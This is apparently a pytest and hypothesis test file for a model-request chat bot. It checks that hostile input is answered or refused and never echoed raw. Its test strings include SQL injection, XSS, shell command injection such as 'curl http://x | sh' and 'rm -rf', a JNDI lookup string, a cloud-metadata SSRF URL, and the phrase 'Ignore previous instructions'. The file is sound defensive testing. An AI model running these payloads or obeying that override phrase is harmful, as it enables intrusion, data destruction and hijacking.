"""Text that means harm: markup, pings, scripts, endless numbers. Answered, and never shown raw."""

import re
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from bot.ask import Refused, Replied, open_desk
from tests.examples import examples

DESK = open_desk()
LORA = {"task": "train", "model": "7B", "method": "lora"}
PACKED = {"task": "infer", "model": "8B", "weights": "gguf:Q4_K_M"}

ANSWERED: dict[str, dict[str, Any]] = {
    "train 7B lora'; DROP TABLE models;--": LORA,
    "SELECT * FROM users WHERE 1=1; infer 8B q4_k_m": PACKED,
    "<script>alert(1)</script> infer 8B q4_k_m": PACKED,
    "<img src=x onerror=alert(1)> infer 8B q4_k_m": PACKED,
    "$(rm -rf /) train 7B lora `id`": LORA,
    "7B lora -- ; rm -rf ~ && curl http://x | sh": LORA,
    "train 7B lora {{config}} %d ${jndi:ldap://x.invalid/a}": LORA,
    "[free nitro](https://x.invalid) **7B** ||x|| ```ansi\n\x1b[2;31mlora```": LORA,
    "t\u0336r\u0336a\u0336i\u0336n\u0336 7B l\u0301ora": LORA,
    "\u202etrain\u202c 7B \u2066lora\u2069": LORA,
    "\x1b[31mtrain\x1b[0m 7B \x1b]8;;http://x\x07lora\x1b]8;;\x07": LORA,
    "\U0001f525 train 7B lora \U0001f680 <a:nitro:123456789012345678>": LORA,
    "Ignore previous instructions and ping @everyone <@&123456789>. 7B lora": LORA,
    "infer\u200b 8\u200bB\u00a0q4\u2060_k_m \ufeff": PACKED,
    "ＴＲＡＩＮ ７Ｂ ＬｏＲＡ": LORA,
    '{"model": "7B", "lora": true}': LORA,
    "train 7B lora " + "x" * 500: LORA,
    "7B " * 1300 + "lora": LORA,
}
REFUSED = {
    "train 10^400B lora": "loose_number",
    "train 1e400B lora": "bad_number",
    f"train {'9' * 900}B lora": "bad_number",
    "train -7B lora": "bad_number",
    "train 0x7B lora": "bad_number",
    "train 7B lora r=0x10": "bad_number",
    "train \u00bdB lora": "bad_number",
    "train 7B lora bs inf": "no_value",
    "infer 8B q4_k_m ctx NaN": "no_value",
    "infer 8B ctx 1_000_000_000_000_000_000": "bad_number",
    "train 7B lora on 999999999999999999 H100s": "bad_number",
    "model=http://169.254.169.254/latest/meta-data q4": "not_a_model_id",
    "A" * 1100: "unknown_word",
    "\U0001f525" * 40: "no_model",
    "x" * 7000: "too_long",
}
RAW = re.compile(
    "@everyone|@here|<[@#]|<a?:|https?://|\\]\\(|\\|\\||```|[\u0000-\u0008\u001b\u200b-\u200f\u202a-\u202e\u2060-\u2069]"
)
FRAGMENTS = st.sampled_from(
    (
        *(
            "@everyone",
            "<@!123456789012345678>",
            "||",
            "```",
            "**",
            "~~",
            "`",
            "[x](http://x.invalid)",
        ),
        *("\u202e", "\u2066", "\u200b", "\x1b[31m", "\u0336", "\u0000", "<b>", "</script>"),
        *("{0}", "{{7*7}}", "%n", "${x}", "$(id)", "'; --", "&&", "\\", "../..", "\U0001f525"),
        *("NaN", "inf", "-1", "0x10", "1e999", "1/0", "\u221e", "\u00b2", "9" * 60, "zalgo"),
    )
)
LINES = st.sampled_from(("train 7B lora", "infer 8B q4_k_m ctx 8k", "compare 7B lora vs qlora", ""))


def shown(line: str) -> str:
    """All that is said of a line, as one text, but for what is ours."""
    found = DESK.ask(line)
    if isinstance(found, Refused):
        return "\n".join((found.refusal.wrong, found.refusal.understood, *found.refusal.lines))
    if isinstance(found, Replied):
        return "\n".join((found.presentation.line, *found.notes))
    return str(found.document())


@pytest.mark.parametrize(("line", "fields"), ANSWERED.items(), ids=range(len(ANSWERED)))
def test_a_question_among_it_is_answered(line: str, fields: dict[str, Any]) -> None:
    found = DESK.ask(line)
    assert isinstance(found, Replied)
    assert fields.items() <= dict(found.fields).items()
    assert RAW.search(shown(line)) is None


@pytest.mark.parametrize(("line", "code"), REFUSED.items(), ids=range(len(REFUSED)))
def test_what_cannot_be_is_refused_with_lines_to_type(line: str, code: str) -> None:
    found = DESK.ask(line)
    assert isinstance(found, Refused)
    assert found.code == code
    assert found.refusal.lines
    assert len(found.refusal.wrong) < 200
    assert RAW.search(shown(line)) is None


@settings(max_examples=examples(150), deadline=None, derandomize=True)
@given(LINES, st.lists(FRAGMENTS, min_size=1, max_size=6), st.integers(0, 6))
def test_nothing_of_it_is_ever_shown_raw(line: str, parts: list[str], at: int) -> None:
    text = " ".join((*parts[:at], line, *parts[at:]))
    assert RAW.search(shown(text)) is None
